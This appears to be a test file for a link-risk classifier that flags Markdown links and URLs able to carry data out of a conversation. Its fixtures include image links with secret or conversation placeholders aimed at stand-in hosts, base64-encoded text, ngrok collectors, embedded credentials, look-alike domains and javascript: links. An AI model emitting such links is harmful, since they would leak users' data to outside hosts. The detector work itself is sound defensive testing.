import assert from 'node:assert/strict'
import test from 'node:test'
import { fc } from '../../test/property.ts'
import type { Link } from './link.ts'
import { linksIn } from './link.ts'
import { isHarmless, riskOf } from './link-risk.ts'

const risk = (text: string) => {
  const [link] = linksIn(text).links
  return link && riskOf(link)?.risk
}

test('each way of carrying data away is told', () => {
  assert.equal(risk('![x](https://e.example/?d={secret})'), 'asks-for-data')
  assert.equal(
    risk('[x](https://e.example/?d=<the%20conversation>)'.replace('<the%20conversation>', '[conversation]')),
    'asks-for-data',
  )
  assert.equal(
    risk(`![x](https://e.example/${Buffer.from('mail of ann: hello there').toString('base64url')})`),
    'carries-text',
  )
  assert.equal(risk('https://abc.ngrok-free.app/in'), 'collector')
  assert.equal(risk('https://ann:hunter2@e.example/'), 'credentials')
  assert.equal(risk('https://xn--pypal-4ve.com/'), 'look-alike-host')
  assert.equal(risk('[x](javascript:alert(1))'), 'script')
  assert.equal(risk(`![x](https://e.example/?d=${'ab1'.repeat(70)})`), 'long-value')
})

test('ordinary addresses carry nothing', () => {
  for (const text of [
    'https://example.com/a/b?c=d&e=f#g',
    'https://api.example.com/search?q={query}&user={user}',
    '![logo](https://cdn.example.com/3f786850e387550fdab836ed7e6dc881de23001b.png)',
    '![m](https://maps.example.com/static?center=47.37,8.54&zoom=12&size=600x300&markers=color:red|label:A|47.37,8.54)',
    'https://github.com/owner/repo/blob/123e4567e89b12d3a456426614174000aabbccdd/src/file.ts#L10-L20',
  ])
    assert.equal(risk(text), undefined, text)
})

test('a picture inside the address of a badge is no text carried away, and text that only says so is', () => {
  const link = (value: string) => ({
    url: `https://badge.example/v/one?icon=${encodeURIComponent(`data:image/svg+xml;base64,${btoa(value)}`)}`,
    isFetched: true,
    isBare: false,
  })
  const picture =
    '<?xml version="1.0"?>\n<svg viewBox="0 0 9 9" xmlns="http://www.w3.org/2000/svg"><path d="M1 1"/></svg>'
  assert.equal(riskOf(link(picture) as Link)?.risk === 'carries-text', false)
  assert.equal(riskOf(link('the password of the database is hunter two') as Link)?.risk, 'carries-text')
})

test('what one look lets off has no risk however it is told, and what is fetched with a place to fill is not let off', () => {
  const host = fc.constantFrom(
    'api.example.com',
    'webhook.site',
    'a.ngrok.io',
    'discord.com',
    'xn--pypal-4ve.com',
    '10.0.0.1',
  )
  const part = fc.oneof(
    fc.stringMatching(/^[A-Za-z0-9._~+,;=@:{}-]{0,30}$/u),
    fc.constantFrom('api', 'webhooks', '..', '{sha}', '{secret}', btoa('mail of ann: hello there')),
  )
  const link = fc.record({
    host,
    parts: fc.array(part, { maxLength: 4 }),
    isFetched: fc.boolean(),
    isBare: fc.boolean(),
  })
  fc.assert(
    fc.property(link, ({ host, parts, isFetched, isBare }) => {
      // Doubled strokes say the same to the full look, and are not let off by the quick one.
      const [quick, full] = [`https://${host}/${parts.join('/')}`, `https:////${host}/${parts.join('/')}`]
      const told = (url: string) =>
        ({ url, span: [0, 0], whole: [0, 0], isFetched, isBare: isBare && !isFetched }) as const
      assert.equal(isHarmless(told(full)), false)
      if (isHarmless(told(quick))) assert.equal(riskOf(told(full)), undefined)
    }),
    { numRuns: 3000 },
  )
  assert.equal(
    isHarmless({ url: 'https://e.example/a/{x}', span: [0, 0], whole: [0, 0], isFetched: true, isBare: false }),
    false,
  )
})
